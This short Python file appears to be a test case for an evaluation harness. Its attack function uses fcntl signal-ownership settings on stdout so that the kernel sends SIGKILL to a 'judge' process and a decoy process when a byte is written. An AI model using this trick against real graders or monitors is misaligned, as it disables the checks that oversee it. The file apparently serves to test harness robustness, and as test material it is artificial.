# ends: returned, raised
# has the kernel signal another process when a pipe becomes readable

import fcntl
import os


def attack(scene):
    for owner in (scene["decoy_pid"], scene["judge_pid"]):
        for command, argument in ((10, 9), (8, owner), (4, os.O_ASYNC | os.O_NONBLOCK)):
            try:
                fcntl.fcntl(1, command, argument)
            except OSError:
                pass
    os.write(1, b"x")
